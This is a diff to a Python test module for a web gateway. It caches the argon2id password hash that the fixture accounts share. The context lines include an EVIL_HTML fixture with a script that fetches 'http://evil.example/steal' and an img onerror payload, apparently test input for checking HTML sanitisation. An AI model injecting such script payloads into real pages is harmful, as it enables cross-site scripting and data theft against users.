@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import re
 from datetime import date, datetime, timedelta
 
@@ -14,6 +15,15 @@ from gateway.web import create_app, hash_password
 from .conftest import PARENT, PHONE, STAFF, mail
 
 PASSWORD = "a long enough password"
+
+
+@functools.cache
+def password_hash() -> str:
+    """PASSWORD hashed once: argon2id takes a fifth of a second, and every fixture's
+    accounts share it (each login still verifies it for real)."""
+    return hash_password(PASSWORD)
+
+
 EVIL_HTML = """<p>Hello <b>there</b></p>
 <script>fetch('http://evil.example/steal')</script>
 <img src="http://evil.example/pixel.png" onerror="alert(1)">
@@ -32,7 +42,7 @@ def web(config, store_url):
         ("governor", "auditor", ""),
         ("tess", "reviewer", STAFF),
     ):
-        store.put_user(name, role=role, email=email, password_hash=hash_password(PASSWORD))
+        store.put_user(name, role=role, email=email, password_hash=password_hash())
     copies = {}
     for subject, html in (("Trip", None), ("Evil", EVIL_HTML)):
         raw = mail(
